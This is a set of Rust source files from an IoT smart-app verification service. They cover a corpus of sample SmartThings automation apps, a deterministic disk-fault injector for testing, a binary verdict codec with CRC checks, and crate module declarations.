    def tooCold = temperature1
    if (evt.doubleValue <= tooCold) {
        sendPush("Temperature dropped below ${temperature1}")
        if (phone) {
            sendSms(phone, "Temperature dropped below ${temperature1}")
        }
        if (heaterOutlet) {
            heaterOutlet.on()
        }
    }
}
"#;

/// Sounds the siren and notifies when smoke is detected.
pub const SMOKE_ALARM_SIREN: &str = r#"
definition(name: "Smoke Alarm Siren", namespace: "smartthings", author: "SmartThings",
    description: "Sound the siren and notify when smoke is detected.")
preferences {
    section("Smoke detector") { input "smokeSensor", "capability.smokeDetector" }
    section("Alarm") { input "alarm1", "capability.alarm" }
    section("Phone") { input "phone", "phone", required: false }
}
def installed() {
    subscribe(smokeSensor, "smoke.detected", smokeHandler)
    subscribe(smokeSensor, "smoke.clear", clearHandler)
}
def smokeHandler(evt) {
    alarm1.both()
    sendPush("Smoke detected!")
    if (phone) {
        sendSms(phone, "Smoke detected!")
    }
}
def clearHandler(evt) {
    alarm1.off()
}
"#;

/// Locks the door when the user's presence sensor leaves.
pub const LOCK_IT_WHEN_I_LEAVE: &str = r#"
definition(name: "Lock It When I Leave", namespace: "smartthings", author: "SmartThings",
    description: "Lock the door when you leave and unlock it when you arrive.")
preferences {
    section("Presence") { input "presence1", "capability.presenceSensor" }
    section("Lock") { input "lock1", "capability.lock" }
}
def installed() {
    subscribe(presence1, "presence", presenceHandler)
}
def presenceHandler(evt) {
    if (evt.value == "not present") {
        lock1.lock()
    } else {
        lock1.unlock()
    }
}
"#;

/// Closes the water valve and alerts when a leak is detected.
pub const FLOOD_ALERT: &str = r#"
definition(name: "Flood Alert", namespace: "smartthings", author: "SmartThings",
    description: "Close the water valve and alert when water is detected.")
preferences {
    section("Leak sensor") { input "leakSensor", "capability.waterSensor" }
    section("Water valve") { input "valve1", "capability.valve" }
    section("Phone") { input "phone", "phone", required: false }
}
def installed() {
    subscribe(leakSensor, "water.wet", waterHandler)
}
def waterHandler(evt) {
    valve1.close()
    sendPush("Water detected: the main valve has been closed")
    if (phone) {
        sendSms(phone, "Water detected at home")
    }
}
"#;

/// Sounds the alarm when carbon monoxide is detected.
pub const CO_ALERT: &str = r#"
definition(name: "CO Alert", namespace: "smartthings", author: "SmartThings",
    description: "Sound the alarm and unlock the door when carbon monoxide is detected.")
preferences {
    section("CO detector") { input "coSensor", "capability.carbonMonoxideDetector" }
    section("Alarm") { input "alarm1", "capability.alarm" }
    section("Front door lock") { input "lock1", "capability.lock", required: false }
}
def installed() {
    subscribe(coSensor, "carbonMonoxide.detected", coHandler)
}
def coHandler(evt) {
    alarm1.siren()
    if (lock1) {
        lock1.unlock()
    }
    sendPush("Carbon monoxide detected!")
}
"#;

/// Turns the sprinkler on when the soil is dry.
pub const SPRINKLER_WHEN_DRY: &str = r#"
definition(name: "Sprinkler When Dry", namespace: "smartthings", author: "SmartThings",
    description: "Run the sprinkler when the soil is dry.")
preferences {
    section("Soil moisture sensor") { input "moistureSensor", "capability.soilMoisture" }
    section("Sprinkler") { input "sprinkler1", "capability.sprinkler" }
    section("Dry threshold") { input "dryThreshold", "number" }
}
def installed() {
    subscribe(moistureSensor, "moisture", moistureHandler)
}
def moistureHandler(evt) {
    if (evt.doubleValue < dryThreshold) {
        sprinkler1.on()
    } else {
        sprinkler1.off()
    }
}
"#;

/// Turns on the coffee maker when the user wakes up (mode changes to Home).
pub const GOOD_MORNING_COFFEE: &str = r#"
definition(name: "Good Morning Coffee", namespace: "smartthings", author: "SmartThings",
    description: "Turn on the coffee maker when the house wakes up.")
preferences {
    section("Coffee maker outlet") { input "coffeeOutlet", "capability.switch" }
}
def installed() {
    subscribe(location, "mode", modeHandler)
}
def modeHandler(evt) {
    if (evt.value == "Home") {
        coffeeOutlet.on()
    }
    if (evt.value == "Night") {
        coffeeOutlet.off()
    }
}
"#;

/// Takes a photo when motion is detected while nobody is home.
pub const CAMERA_ON_INTRUSION: &str = r#"
definition(name: "Camera On Intrusion", namespace: "smartthings", author: "SmartThings",
    description: "Take a photo when motion is detected while you are away.")
preferences {
    section("Motion sensor") { input "motionSensor", "capability.motionSensor" }
    section("Camera") { input "camera1", "capability.imageCapture" }
}
def installed() {
    subscribe(motionSensor, "motion.active", motionHandler)
}
def motionHandler(evt) {
    if (location.mode == "Away") {
        camera1.take()
        sendPush("Intruder photo captured")
    }
}
"#;

/// Turns an outlet off after a period (e.g. a curling iron left on).
pub const CURLING_IRON: &str = r#"
definition(name: "Curling Iron", namespace: "smartthings", author: "SmartThings",
    description: "Turn an outlet on with motion and off automatically after some minutes.")
preferences {
    section("Motion sensor") { input "motionSensor", "capability.motionSensor" }
    section("Outlet") { input "outlet1", "capability.switch" }
    section("Off after minutes") { input "minutes1", "number" }
}
def installed() {
    subscribe(motionSensor, "motion.active", motionHandler)
}
def motionHandler(evt) {
    outlet1.on()
    runIn(minutes1 * 60, turnOff)
}
def turnOff() {
    outlet1.off()
}
"#;

/// Alerts on sustained motion at night ("undead early warning").
pub const UNDEAD_EARLY_WARNING: &str = r#"
definition(name: "Undead Early Warning", namespace: "smartthings", author: "SmartThings",
    description: "Flash lights and alert when motion is detected at night.")
preferences {
    section("Motion sensor") { input "motionSensor", "capability.motionSensor" }
    section("Lights") { input "lights", "capability.switch", multiple: true }
}
def installed() {
    subscribe(motionSensor, "motion.active", motionHandler)
}
def motionHandler(evt) {
    if (location.mode == "Night") {
        lights.on()
        sendPush("Motion detected downstairs at night")
    }
}
"#;

/// Turns everything off on touch or mode change.
pub const BIG_TURN_OFF: &str = r#"
definition(name: "Big Turn Off", namespace: "smartthings", author: "SmartThings",
    description: "Turn your lights off when the SmartApp is tapped or activated by mode change.")
preferences {
    section("Turn off...") { input "switches", "capability.switch", multiple: true }
}
def installed() {
    subscribe(app, "touch", appTouch)
    subscribe(location, "mode", changedLocationMode)
}
def appTouch(evt) {
    switches.off()
}
def changedLocationMode(evt) {
    switches.off()
}
"#;

#[cfg(test)]
mod tests {
    use super::*;
    use iotsan_groovy::SmartApp;
    use iotsan_ir::lower_app;

    #[test]
    fn corpus_has_150_apps_with_unique_names() {
        let apps = market_apps();
        assert_eq!(apps.len(), 150);
        let mut names: Vec<&str> = apps.iter().map(|a| a.name.as_str()).collect();
        names.sort();
        names.dedup();
        assert_eq!(names.len(), 150, "duplicate app names in corpus");
    }

    #[test]
    fn every_market_app_parses_and_lowers() {
        for app in market_apps() {
            let parsed = SmartApp::parse(&app.source)
                .unwrap_or_else(|e| panic!("{} failed to parse: {e}", app.name));
            assert_eq!(parsed.name(), app.name, "definition name mismatch for {}", app.name);
            let ir =
                lower_app(&parsed).unwrap_or_else(|e| panic!("{} failed to lower: {e}", app.name));
            assert!(!ir.handlers.is_empty(), "{} has no handlers", app.name);
        }
    }

    #[test]
    fn named_apps_have_expected_structure() {
        let parsed = SmartApp::parse(VIRTUAL_THERMOSTAT).unwrap();
        assert_eq!(parsed.inputs.len(), 7);
        let ir = lower_app(&parsed).unwrap();
        assert!(ir.handlers.iter().any(|h| h.name == "temperatureHandler"));

        let unlock = lower_app(&SmartApp::parse(UNLOCK_DOOR).unwrap()).unwrap();
        assert_eq!(unlock.handlers.len(), 2);

        let make_it_so = lower_app(&SmartApp::parse(MAKE_IT_SO).unwrap()).unwrap();
        assert!(make_it_so.handlers.iter().any(|h| h.name == "intrusionHandler"));
    }

    #[test]
    fn six_groups_of_twenty_five() {
        let groups = six_groups();
        assert_eq!(groups.len(), 6);
        for group in &groups {
            assert_eq!(group.len(), 25);
        }
    }

    #[test]
    fn generated_apps_are_deterministic() {
        assert_eq!(generated_app(3), generated_app(3));
        assert_ne!(generated_app(3).name, generated_app(13).name);
    }
}
