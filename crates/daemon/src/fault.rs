//! The store's I/O seam: a tiny trait the [`crate::store::VerdictStore`]
//! routes its disk operations through, with a real implementation and a
//! deterministic fault-injecting one.
//!
//! Opening and recovery are deliberately *not* faultable: a store that
//! cannot be opened is the ordinary startup error path, already exercised
//! directly.  The seam covers the steady-state mutations a long-lived
//! daemon performs — record appends, compaction's temp-file write, fsync
//! and the atomic rename — because those are the operations a full disk,
//! a flaky controller or a power cut interrupt *after* the service is up.
//!
//! [`FaultyIo`] counts those mutating operations and fails the ones a
//! seeded [`FaultPlan`] names, with the same splitmix64 discipline
//! `iotsan-scenarios` uses: the plan is plain data, so a failing chaos
//! schedule shrinks to a committable reproduction.

use std::fmt;
use std::fs::{self, File};
use std::io::{self, Write};
use std::path::Path;

/// The disk operations a [`crate::store::VerdictStore`] performs after it
/// is open, factored out so tests and the chaos harness can fail them
/// deterministically.
///
/// `read` is part of the seam so reopen-time recovery flows through the
/// same object, but implementations must keep it infallible-as-possible:
/// only the four mutating operations (`append`, `write`, `fsync`,
/// `rename`) are the faultable surface.
pub trait StoreIo: fmt::Debug + Send {
    /// Reads the whole file at `path` (used by reopen-time recovery).
    fn read(&mut self, path: &Path) -> io::Result<Vec<u8>>;

    /// Appends `bytes` to an open log handle.
    fn append(&mut self, file: &mut File, bytes: &[u8]) -> io::Result<()>;

    /// Writes a whole file (compaction's temp file).
    fn write(&mut self, path: &Path, bytes: &[u8]) -> io::Result<()>;

    /// Forces `file`'s data to physical storage.
    fn fsync(&mut self, file: &File) -> io::Result<()>;

    /// Atomically renames `from` over `to`.
    fn rename(&mut self, from: &Path, to: &Path) -> io::Result<()>;
}

/// The production [`StoreIo`]: plain `std::fs` calls.
#[derive(Debug, Clone, Copy, Default)]
pub struct RealIo;

impl StoreIo for RealIo {
    fn read(&mut self, path: &Path) -> io::Result<Vec<u8>> {
        fs::read(path)
    }

    fn append(&mut self, file: &mut File, bytes: &[u8]) -> io::Result<()> {
        file.write_all(bytes)
    }

    fn write(&mut self, path: &Path, bytes: &[u8]) -> io::Result<()> {
        fs::write(path, bytes)
    }

    fn fsync(&mut self, file: &File) -> io::Result<()> {
        file.sync_data()
    }

    fn rename(&mut self, from: &Path, to: &Path) -> io::Result<()> {
        fs::rename(from, to)
    }
}

/// How an injected operation fails.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FaultKind {
    /// An append or write persists only a prefix of its bytes before
    /// failing — the torn record a power cut leaves behind.
    ShortWrite,
    /// An append or write fails outright without persisting anything, the
    /// way a full disk rejects new data (ENOSPC).
    NoSpace,
    /// An fsync reports failure (data may or may not have reached media).
    FsyncFail,
    /// The atomic rename at the end of compaction fails.
    RenameFail,
}

/// One scheduled fault: the 0-based index of the mutating operation to
/// fail, and how.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Fault {
    /// Which mutating operation (append/write/fsync/rename, counted in
    /// order of execution since the store was opened) fails.
    pub at: u64,
    /// How it fails.
    pub kind: FaultKind,
}

/// A deterministic schedule of injected I/O faults — plain, cloneable data
/// so a [`crate::daemon::DaemonConfig`] can carry one and a failing chaos
/// schedule can shrink.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FaultPlan {
    /// The scheduled faults; order is irrelevant, indices need not be
    /// unique (the first match wins).
    pub faults: Vec<Fault>,
}

impl FaultPlan {
    /// A plan injecting nothing (equivalent to [`RealIo`]).
    pub fn none() -> Self {
        FaultPlan::default()
    }

    /// The fault scheduled at operation index `at`, if any.
    fn fault_at(&self, at: u64) -> Option<FaultKind> {
        self.faults.iter().find(|f| f.at == at).map(|f| f.kind)
    }
}

fn injected(kind: FaultKind) -> io::Error {
    let (errkind, message) = match kind {
        FaultKind::ShortWrite => (io::ErrorKind::WriteZero, "injected short write"),
        // MSRV 1.75 has no `ErrorKind::StorageFull`; `Other` is portable
        // and nothing in the store dispatches on the kind.
        FaultKind::NoSpace => (io::ErrorKind::Other, "injected disk full (ENOSPC)"),
        FaultKind::FsyncFail => (io::ErrorKind::Other, "injected fsync failure"),
        FaultKind::RenameFail => (io::ErrorKind::Other, "injected rename failure"),
    };
    io::Error::new(errkind, message)
}

/// A [`StoreIo`] that executes a [`FaultPlan`]: every mutating operation
/// increments a counter, and an operation whose index the plan names fails
/// with the scheduled [`FaultKind`].  A `ShortWrite` really does persist
/// half the bytes before failing, so recovery sees the same torn tail a
/// crash would leave; every other kind fails without side effects.  A
/// fault whose kind does not match the operation it lands on (say
/// `RenameFail` on an append) still fails that operation cleanly —
/// schedules stay meaningful without knowing the store's exact op
/// sequence.  Reads always pass through.
#[derive(Debug)]
pub struct FaultyIo {
    plan: FaultPlan,
    ops: u64,
}

impl FaultyIo {
    /// Wraps `plan` with the operation counter at zero.
    pub fn new(plan: FaultPlan) -> Self {
        FaultyIo { plan, ops: 0 }
    }

    /// Mutating operations executed (or failed) so far.
    pub fn ops(&self) -> u64 {
        self.ops
    }

    /// Consumes the next operation index and returns the fault scheduled
    /// for it, if any.
    fn next_op(&mut self) -> Option<FaultKind> {
        let at = self.ops;
        self.ops += 1;
        let fault = self.plan.fault_at(at);
        if let Some(kind) = fault {
            iotsan_telemetry::METRICS.store_io_faults.inc();
            iotsan_telemetry::flight::record(
                iotsan_telemetry::flight::Level::Warn,
                iotsan_telemetry::flight::EventCode::Diagnostic,
                &format!("injecting {kind:?} at store op {at}"),
            );
        }
        fault
    }
}

impl StoreIo for FaultyIo {
    fn read(&mut self, path: &Path) -> io::Result<Vec<u8>> {
        fs::read(path)
    }

    fn append(&mut self, file: &mut File, bytes: &[u8]) -> io::Result<()> {
        match self.next_op() {
            None => file.write_all(bytes),
            Some(FaultKind::ShortWrite) => {
                file.write_all(&bytes[..bytes.len() / 2])?;
                Err(injected(FaultKind::ShortWrite))
            }
            Some(kind) => Err(injected(kind)),
        }
    }

    fn write(&mut self, path: &Path, bytes: &[u8]) -> io::Result<()> {
        match self.next_op() {
            None => fs::write(path, bytes),
            Some(FaultKind::ShortWrite) => {
                fs::write(path, &bytes[..bytes.len() / 2])?;
                Err(injected(FaultKind::ShortWrite))
            }
            Some(kind) => Err(injected(kind)),
        }
    }

    fn fsync(&mut self, file: &File) -> io::Result<()> {
        match self.next_op() {
            None => file.sync_data(),
            Some(kind) => Err(injected(kind)),
        }
    }

    fn rename(&mut self, from: &Path, to: &Path) -> io::Result<()> {
        match self.next_op() {
            None => fs::rename(from, to),
            Some(kind) => Err(injected(kind)),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plan_matches_by_op_index() {
        let plan = FaultPlan {
            faults: vec![
                Fault { at: 2, kind: FaultKind::NoSpace },
                Fault { at: 0, kind: FaultKind::FsyncFail },
            ],
        };
        assert_eq!(plan.fault_at(0), Some(FaultKind::FsyncFail));
        assert_eq!(plan.fault_at(1), None);
        assert_eq!(plan.fault_at(2), Some(FaultKind::NoSpace));
        assert_eq!(FaultPlan::none().fault_at(0), None);
    }

    #[test]
    fn faulty_io_counts_only_mutating_ops() {
        let dir = std::env::temp_dir().join(format!("iotsan-fault-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("probe.bin");
        let mut io =
            FaultyIo::new(FaultPlan { faults: vec![Fault { at: 1, kind: FaultKind::NoSpace }] });
        io.write(&path, b"hello").unwrap(); // op 0: passes
        io.read(&path).unwrap(); // reads do not consume indices
        assert!(io.write(&path, b"world").is_err()); // op 1: injected
        assert_eq!(io.ops(), 2);
        assert_eq!(std::fs::read(&path).unwrap(), b"hello"); // NoSpace has no side effects
        let _ = std::fs::remove_dir_all(&dir);
    }

    #[test]
    fn short_write_persists_half_the_bytes() {
        let dir = std::env::temp_dir().join(format!("iotsan-fault-sw-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let path = dir.join("torn.bin");
        let mut io =
            FaultyIo::new(FaultPlan { faults: vec![Fault { at: 0, kind: FaultKind::ShortWrite }] });
        assert!(io.write(&path, b"abcdefgh").is_err());
        assert_eq!(std::fs::read(&path).unwrap(), b"abcd");
        let _ = std::fs::remove_dir_all(&dir);
    }
}
