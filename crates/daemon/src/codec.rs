//! Exact binary serialization of group verdicts.
//!
//! The verdict store persists [`GroupResult`]s — the planner's cached unit of
//! work — and the daemon's warm-restart guarantee is *byte identity*: a
//! verdict replayed from disk must equal the cold run's in-memory result
//! exactly, including the floating-point throughput and `Duration` fields of
//! its [`iotsan::checker::SearchStats`].  JSON would round-trip floats
//! through decimal; this codec instead writes fixed-width little-endian
//! integers, length-prefixed UTF-8 strings, `f64::to_bits` for floats and
//! `(secs, subsec_nanos)` for durations, so `decode(encode(r)) == r` holds
//! structurally *and* `encode(decode(b)) == b` holds byte-for-byte — the
//! property compaction idempotence rests on.
//!
//! Decoding is defensive: every length is bounds-checked against the
//! remaining input before any allocation, and all failures are explicit
//! [`CodecError`]s — a corrupt record can be *skipped* but never
//! misinterpreted as a different verdict (the CRC layer in
//! [`crate::store`] makes silent corruption astronomically unlikely;
//! the bounds checks make even a CRC collision safe).

use iotsan::checker::{FoundViolation, LogLine, SearchReport, SearchStats, Trace, TraceStep};
use iotsan::GroupResult;
use std::fmt;
use std::time::Duration;

/// A decoding failure: the input is not a well-formed encoded verdict.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CodecError {
    /// What was being decoded when the input ran out or made no sense.
    pub context: &'static str,
}

impl fmt::Display for CodecError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "malformed verdict record ({})", self.context)
    }
}

impl std::error::Error for CodecError {}

fn err(context: &'static str) -> CodecError {
    CodecError { context }
}

/// CRC-32 (IEEE 802.3 polynomial, reflected) over `bytes` — the per-record
/// integrity guard of the verdict log.  Bitwise implementation: record sizes
/// are small and the store is I/O-bound, so no table is warranted.
pub fn crc32(bytes: &[u8]) -> u32 {
    let mut crc: u32 = 0xffff_ffff;
    for byte in bytes {
        crc ^= u32::from(*byte);
        for _ in 0..8 {
            let mask = (crc & 1).wrapping_neg();
            crc = (crc >> 1) ^ (0xedb8_8320 & mask);
        }
    }
    !crc
}

// ---------------------------------------------------------------------------
// Writing
// ---------------------------------------------------------------------------

fn put_u32(out: &mut Vec<u8>, v: u32) {
    out.extend_from_slice(&v.to_le_bytes());
}

fn put_u64(out: &mut Vec<u8>, v: u64) {
    out.extend_from_slice(&v.to_le_bytes());
}

fn put_usize(out: &mut Vec<u8>, v: usize) {
    put_u64(out, v as u64);
}

fn put_str(out: &mut Vec<u8>, s: &str) {
    put_u32(out, s.len() as u32);
    out.extend_from_slice(s.as_bytes());
}

fn put_opt_str(out: &mut Vec<u8>, s: Option<&str>) {
    match s {
        None => out.push(0),
        Some(s) => {
            out.push(1);
            put_str(out, s);
        }
    }
}

fn put_bool(out: &mut Vec<u8>, b: bool) {
    out.push(u8::from(b));
}

/// Encodes a [`GroupResult`] into `out` (appended; `out` is not cleared).
pub fn encode_group_result(result: &GroupResult, out: &mut Vec<u8>) {
    put_u32(out, result.apps.len() as u32);
    for app in &result.apps {
        put_str(out, app);
    }
    let report = &result.report;
    put_u32(out, report.violations.len() as u32);
    for found in &report.violations {
        put_u32(out, found.violation.property);
        put_str(out, &found.violation.description);
        put_u32(out, found.trace.steps.len() as u32);
        for step in &found.trace.steps {
            put_str(out, &step.action);
            put_u32(out, step.log.len() as u32);
            for line in &step.log {
                put_opt_str(out, line.owner.as_deref());
                put_str(out, &line.text);
            }
        }
        put_usize(out, found.depth);
    }
    let stats = &report.stats;
    put_usize(out, stats.states_stored);
    put_usize(out, stats.transitions);
    put_usize(out, stats.max_depth_reached);
    put_u64(out, stats.elapsed.as_secs());
    put_u32(out, stats.elapsed.subsec_nanos());
    put_u64(out, stats.states_per_sec.to_bits());
    put_usize(out, stats.store_memory_bytes);
    put_usize(out, stats.peak_trace_bytes);
    put_bool(out, stats.truncated);
    put_bool(out, stats.states_capped);
    put_bool(out, stats.transitions_capped);
    put_usize(out, stats.workers);
}

// ---------------------------------------------------------------------------
// Reading
// ---------------------------------------------------------------------------

/// A bounds-checked cursor over encoded bytes.
struct Reader<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Reader<'a> {
    fn new(bytes: &'a [u8]) -> Self {
        Reader { bytes, pos: 0 }
    }

    fn take(&mut self, n: usize, context: &'static str) -> Result<&'a [u8], CodecError> {
        let end = self.pos.checked_add(n).ok_or_else(|| err(context))?;
        if end > self.bytes.len() {
            return Err(err(context));
        }
        let slice = &self.bytes[self.pos..end];
        self.pos = end;
        Ok(slice)
    }

    fn u8(&mut self, context: &'static str) -> Result<u8, CodecError> {
        Ok(self.take(1, context)?[0])
    }

    fn u32(&mut self, context: &'static str) -> Result<u32, CodecError> {
        Ok(u32::from_le_bytes(self.take(4, context)?.try_into().expect("4 bytes")))
    }

    fn u64(&mut self, context: &'static str) -> Result<u64, CodecError> {
        Ok(u64::from_le_bytes(self.take(8, context)?.try_into().expect("8 bytes")))
    }

    fn usize(&mut self, context: &'static str) -> Result<usize, CodecError> {
        self.u64(context)?.try_into().map_err(|_| err(context))
    }

    fn string(&mut self, context: &'static str) -> Result<String, CodecError> {
        let len = self.u32(context)? as usize;
        let bytes = self.take(len, context)?;
        String::from_utf8(bytes.to_vec()).map_err(|_| err(context))
    }

    fn opt_string(&mut self, context: &'static str) -> Result<Option<String>, CodecError> {
        match self.u8(context)? {
            0 => Ok(None),
            1 => Ok(Some(self.string(context)?)),
            _ => Err(err(context)),
        }
    }

    fn boolean(&mut self, context: &'static str) -> Result<bool, CodecError> {
        match self.u8(context)? {
            0 => Ok(false),
            1 => Ok(true),
            _ => Err(err(context)),
        }
    }

    fn finished(&self) -> bool {
        self.pos == self.bytes.len()
    }
}

/// Decodes a [`GroupResult`] from exactly `bytes` (trailing garbage is an
/// error — a record's payload length is authoritative).
pub fn decode_group_result(bytes: &[u8]) -> Result<GroupResult, CodecError> {
    let mut r = Reader::new(bytes);
    let app_count = r.u32("app count")? as usize;
    let mut apps = Vec::with_capacity(app_count.min(1024));
    for _ in 0..app_count {
        apps.push(r.string("app name")?);
    }
    let violation_count = r.u32("violation count")? as usize;
    let mut violations = Vec::with_capacity(violation_count.min(1024));
    for _ in 0..violation_count {
        let property = r.u32("property id")?;
        let description = r.string("property description")?;
        let step_count = r.u32("trace step count")? as usize;
        let mut steps = Vec::with_capacity(step_count.min(1024));
        for _ in 0..step_count {
            let action = r.string("trace action")?;
            let log_count = r.u32("log line count")? as usize;
            let mut log = Vec::with_capacity(log_count.min(1024));
            for _ in 0..log_count {
                let owner = r.opt_string("log owner")?;
                let text = r.string("log text")?;
                log.push(LogLine { owner, text });
            }
            steps.push(TraceStep { action, log });
        }
        let depth = r.usize("violation depth")?;
        violations.push(FoundViolation {
            violation: iotsan::checker::Violation { property, description },
            trace: Trace { steps },
            depth,
        });
    }
    let stats = SearchStats {
        states_stored: r.usize("states stored")?,
        transitions: r.usize("transitions")?,
        max_depth_reached: r.usize("max depth")?,
        elapsed: Duration::new(r.u64("elapsed secs")?, r.u32("elapsed nanos")?),
        states_per_sec: f64::from_bits(r.u64("states/sec bits")?),
        store_memory_bytes: r.usize("store memory")?,
        peak_trace_bytes: r.usize("peak trace bytes")?,
        truncated: r.boolean("truncated flag")?,
        states_capped: r.boolean("states-capped flag")?,
        transitions_capped: r.boolean("transitions-capped flag")?,
        workers: r.usize("workers")?,
    };
    if !r.finished() {
        return Err(err("trailing bytes"));
    }
    Ok(GroupResult { apps, report: SearchReport { violations, stats } })
}

#[cfg(test)]
mod tests {
    use super::*;

    pub(crate) fn sample_result() -> GroupResult {
        let mut trace = Trace::new();
        trace.push(
            "alicePresence/presence=not present [ok]".into(),
            vec![
                LogLine::owned("Auto Mode Change", "setLocationMode(\"Away\")"),
                LogLine::new("location.mode = Away"),
            ],
        );
        GroupResult {
            apps: vec!["Auto Mode Change".into(), "Unlock Door".into()],
            report: SearchReport {
                violations: vec![FoundViolation {
                    violation: iotsan::checker::Violation {
                        property: 6,
                        description: "!anyone_home && main_door == unlocked".into(),
                    },
                    trace,
                    depth: 2,
                }],
                stats: SearchStats {
                    states_stored: 123,
                    transitions: 456,
                    max_depth_reached: 3,
                    elapsed: Duration::new(1, 234_567_891),
                    states_per_sec: 12345.6789,
                    store_memory_bytes: 4096,
                    peak_trace_bytes: 512,
                    truncated: false,
                    states_capped: false,
                    transitions_capped: false,
                    workers: 1,
                },
            },
        }
    }

    #[test]
    fn round_trips_structurally_and_byte_for_byte() {
        let original = sample_result();
        let mut bytes = Vec::new();
        encode_group_result(&original, &mut bytes);
        let decoded = decode_group_result(&bytes).unwrap();
        assert_eq!(decoded, original);
        // Byte identity: re-encoding the decoded value reproduces the input
        // exactly (this is what makes compaction idempotent).
        let mut again = Vec::new();
        encode_group_result(&decoded, &mut again);
        assert_eq!(again, bytes);
    }

    #[test]
    fn floats_and_durations_are_exact() {
        let mut original = sample_result();
        original.report.stats.states_per_sec = f64::from_bits(0x7ff8_0000_0000_0001); // a NaN payload
        original.report.stats.elapsed = Duration::new(u64::MAX, 999_999_999);
        let mut bytes = Vec::new();
        encode_group_result(&original, &mut bytes);
        let decoded = decode_group_result(&bytes).unwrap();
        assert_eq!(
            decoded.report.stats.states_per_sec.to_bits(),
            original.report.stats.states_per_sec.to_bits()
        );
        assert_eq!(decoded.report.stats.elapsed, original.report.stats.elapsed);
    }

    #[test]
    fn every_truncation_is_an_explicit_error() {
        let original = sample_result();
        let mut bytes = Vec::new();
        encode_group_result(&original, &mut bytes);
        for cut in 0..bytes.len() {
            assert!(
                decode_group_result(&bytes[..cut]).is_err(),
                "a {cut}-byte prefix of a {}-byte record must not decode",
                bytes.len()
            );
        }
    }

    #[test]
    fn trailing_bytes_are_rejected() {
        let mut bytes = Vec::new();
        encode_group_result(&sample_result(), &mut bytes);
        bytes.push(0);
        assert_eq!(decode_group_result(&bytes).unwrap_err().context, "trailing bytes");
    }

    #[test]
    fn oversized_length_prefix_fails_without_allocating() {
        // A string length claiming 4 GiB against a 12-byte input must fail
        // the bounds check, not attempt the allocation.
        let mut bytes = Vec::new();
        put_u32(&mut bytes, 1); // one app
        put_u32(&mut bytes, u32::MAX); // ...whose name is "4 GiB" long
        bytes.extend_from_slice(b"oops");
        assert!(decode_group_result(&bytes).is_err());
    }

    #[test]
    fn crc32_matches_known_vectors() {
        // IEEE CRC-32 check value for "123456789".
        assert_eq!(crc32(b"123456789"), 0xcbf4_3926);
        assert_eq!(crc32(b""), 0);
    }
}
