//! Verification-as-a-service for IotSan: the `iotsand` daemon and its
//! durable verdict store.
//!
//! The pipeline crates verify one bundle per process invocation; this crate
//! turns them into a long-lived service an app store can feed continuously:
//!
//! - [`store::VerdictStore`] — an append-only, CRC-guarded log of group
//!   verdicts keyed by the planner's content fingerprints
//!   ([`iotsan::Fingerprint`]), with crash-safe replay, versioned headers
//!   (stale analysis never replays) and deterministic compaction.
//! - [`daemon::Daemon`] — a bounded job queue and worker pool over
//!   [`iotsan::VerificationPlanner`], sharing one
//!   [`iotsan::VerificationCache`] backed by the store through
//!   [`daemon::StoreBacking`].
//! - [`job`] — the NDJSON batch-ingest format (`iotsand --jobs jobs.ndjson`
//!   or a unix socket), one JSON object per line.
//! - [`fault`] — the store's I/O seam ([`fault::StoreIo`]) with a
//!   deterministic fault injector, feeding the daemon's self-healing paths
//!   (degraded mode, retry/backoff, poison quarantine) and the seeded
//!   chaos harness in `iotsan-bench`.
//!
//! The operator-facing reference — disk layout, job fields, recovery
//! semantics, troubleshooting — lives in the repository's `OPERATIONS.md`.

#![deny(missing_docs)]
#![forbid(unsafe_code)]

pub mod codec;
pub mod daemon;
pub mod fault;
pub mod job;
pub mod store;

pub use daemon::{
    load_quarantine, quarantine_sidecar_path, Daemon, DaemonConfig, DaemonSummary, JobOutcome,
    JobStatus, PoisonEntry, RetryPolicy, StoreBacking, StoreHealth, REPROBE_LIMIT,
};
pub use fault::{Fault, FaultKind, FaultPlan, FaultyIo, RealIo, StoreIo};
pub use job::{parse_line, resolve_sources, BundleSpec, JobLine, JobSpec};
pub use store::{
    CompactStats, DiscardReason, Recovery, StoreOptions, VerdictStore, FORMAT_VERSION, MAGIC,
};
