//! Verification-as-a-service for IotSan: the `iotsand` daemon and its
//! durable verdict store.
//!
//! The pipeline crates verify one bundle per process invocation; this crate
//! turns them into a long-lived service an app store can feed continuously:
//!
//! - [`store::VerdictStore`] — an append-only, CRC-guarded log of group
//!   verdicts keyed by the planner's content fingerprints
//!   ([`iotsan::Fingerprint`]), with crash-safe replay, versioned headers
//!   (stale analysis never replays) and deterministic compaction.
//! - [`daemon::Daemon`] — a bounded job queue and worker pool over
//!   [`iotsan::VerificationPlanner`], sharing one
//!   [`iotsan::VerificationCache`] backed by the store through
//!   [`daemon::StoreBacking`].
//! - [`job`] — the NDJSON batch-ingest format (`iotsand --jobs jobs.ndjson`
//!   or a unix socket), one JSON object per line.
//!
//! The operator-facing reference — disk layout, job fields, recovery
//! semantics, troubleshooting — lives in the repository's `OPERATIONS.md`.

#![deny(missing_docs)]
#![forbid(unsafe_code)]

pub mod codec;
pub mod daemon;
pub mod job;
pub mod store;

pub use daemon::{Daemon, DaemonConfig, DaemonSummary, JobOutcome, JobStatus, StoreBacking};
pub use job::{parse_line, resolve_sources, BundleSpec, JobLine, JobSpec};
pub use store::{
    CompactStats, DiscardReason, Recovery, StoreOptions, VerdictStore, FORMAT_VERSION, MAGIC,
};
