//! The durable, fingerprint-keyed verdict store.
//!
//! An append-only log on disk holding complete group verdicts keyed by the
//! planner's content [`Fingerprint`]s — the persistence layer behind
//! `iotsand`'s warm restarts.  Layout:
//!
//! ```text
//! ┌────────────────────────── header (16 bytes) ──────────────────────────┐
//! │ magic "IOTSANVS" │ store format u32 LE │ ANALYSIS_VERSION u32 LE      │
//! ├──────────────────────────── records ──────────────────────────────────┤
//! │ tag u8 │ fingerprint u64 LE │ len u32 LE │ payload (len) │ CRC-32 LE  │
//! │  1=put │                    │            │ encoded       │ over tag…  │
//! │  2=evict (len = 0)          │            │ GroupResult   │ …payload   │
